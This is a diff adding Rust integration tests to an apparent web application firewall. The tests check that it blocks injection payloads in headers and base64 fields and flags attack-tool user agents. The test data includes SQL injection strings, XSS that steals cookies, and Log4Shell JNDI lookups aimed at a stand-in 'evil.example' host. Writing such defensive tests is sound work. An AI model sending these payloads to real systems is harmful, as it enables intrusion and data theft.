@@ -1,6 +1,8 @@
 //! Attack inspection through the real binary: injections refused (or
 //! recorded in monitor mode), exclusions and schema hints, GraphQL limits,
-//! introspection and suggestion masking, XML and SOAP protections.
+//! introspection and suggestion masking, XML and SOAP protections, headers
+//! (custom ones, an unverified `Authorization`), attack tools' user agents
+//! and base64 (`format: byte`) fields.
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
 mod support;
@@ -30,6 +32,7 @@ paths:
               properties:
                 title: {type: string}
                 html: {type: string}
+                attachment: {type: string, format: byte}
       responses: {"200": {description: ok}}
   /graphql:
     post:
@@ -288,4 +291,139 @@ async fn multipart_fields_are_inspected_but_files_are_not() {
     let r = post(form("<script>alert(1)</script>")).await.unwrap();
     assert_eq!(r.status(), 403);
     assert_eq!(up.hits(), 1);
+}
+
+#[tokio::test]
+async fn every_header_but_transport_and_consumed_credentials_is_inspected() {
+    let (_dir, up, moat) = start("").await;
+    let c = client();
+    let get = |name: &'static str, value: &'static str| {
+        c.get(moat.url("/items?q=shoes")).header(name, value).send()
+    };
+    // Custom client headers and Accept-Language carry payloads too.
+    for (name, value) in [
+        ("x-client-version", "4.2.1' OR '1'='1' -- "),
+        ("accept-language", "en-US,en;q=0.9' AND SLEEP(5)-- -"),
+        ("x-request-id", "${jndi:ldap://log.evil.example:1389/a}"),
+    ] {
+        let (status, p) = problem(get(name, value).await.unwrap()).await;
+        assert_eq!(status, 403, "{name}: {p}");
+    }
+    moat.wait_stderr("sqli@header:x-client-version").await;
+    // Ordinary values of the same headers pass.
+    for (name, value) in [
+        ("x-client-version", "4.12.0 (build 2291; iOS 17.4.1)"),
+        ("accept-language", "de-DE,de;q=0.9,en;q=0.8"),
+        (
+            "sec-ch-ua",
+            "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\"",
+        ),
+    ] {
+        assert_eq!(get(name, value).await.unwrap().status(), 200, "{name}");
+    }
+    // An Authorization header no verifier read (this operation allows
+    // anonymous access, and a bearer token is not the Basic scheme's
+    // credential) is a value like any other.
+    let r = c
+        .get(moat.url("/items?q=shoes"))
+        .header("authorization", "Bearer ${jndi:ldap://evil.example/a}")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 403);
+    moat.wait_stderr("jndi@header:authorization").await;
+    // Verified credentials are consumed, not inspected.
+    let r = c
+        .get(moat.url("/items?q=shoes"))
+        .basic_auth("alice", Some("pw"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    assert_eq!(up.hits(), 4);
+
+    // `inspection.headers.exclude` leaves a header out.
+    let extra = "    inspection:\n      headers: {exclude: [X-Client-Version]}\n";
+    let (_dir2, _up2, excluding) = start(extra).await;
+    let r = c
+        .get(excluding.url("/items?q=shoes"))
+        .header("x-client-version", "4.2.1' OR '1'='1' -- ")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let r = c
+        .get(excluding.url("/items?q=shoes"))
+        .header("x-device-name", "<script>alert(1)</script>")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 403);
+}
+
+#[tokio::test]
+async fn attack_tools_are_flagged_or_blocked() {
+    const SQLMAP: &str = "sqlmap/1.7.2#stable (https://sqlmap.org)";
+    let (_dir, up, moat) = start("").await;
+    let c = client();
+    let r = c
+        .get(moat.url("/items?q=shoes"))
+        .header("user-agent", SQLMAP)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200, "flagged, not refused, by default");
+    assert_eq!(up.hits(), 1);
+    let line = moat.wait_log(|l| l["finding"] == "attack-suspected").await;
+    assert_eq!(line["status"], 200, "{line}");
+    moat.wait_stderr("attack_tool").await;
+
+    let (_dir2, up2, blocking) = start("    inspection: {attack_tools: block}\n").await;
+    let r = c
+        .get(blocking.url("/items?q=shoes"))
+        .header("user-agent", SQLMAP)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 403);
+    let r = c
+        .get(blocking.url("/items?q=shoes"))
+        .header(
+            "user-agent",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+        )
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    assert_eq!(up2.hits(), 1);
+}
+
+#[tokio::test]
+async fn base64_fields_are_decoded_and_inspected() {
+    use base64::Engine as _;
+    let b64 = |s: &[u8]| base64::engine::general_purpose::STANDARD.encode(s);
+    let (_dir, up, moat) = start("").await;
+    let c = client();
+    let post = |body: Value| c.post(moat.url("/items")).json(&body).send();
+    let r = post(json!({"attachment": b64(b"<script>alert(document.cookie)</script>")}))
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 403);
+    moat.wait_stderr("xss@body:/attachment").await;
+    let r = post(json!({"attachment": b64(b"1' UNION SELECT password FROM users--")}))
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 403);
+    // Text and binary content that is no attack pass.
+    let r = post(json!({"attachment": b64(b"Meeting notes: bring the Q3 figures.")}))
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let r =
+        post(json!({"attachment": b64(&[0x89, b'P', b'N', b'G', 0x0d, 0x0a, 0x1a, 0x0a, 0xff])}))
+            .await
+            .unwrap();
+    assert_eq!(r.status(), 200);
+    assert_eq!(up.hits(), 2);
 }
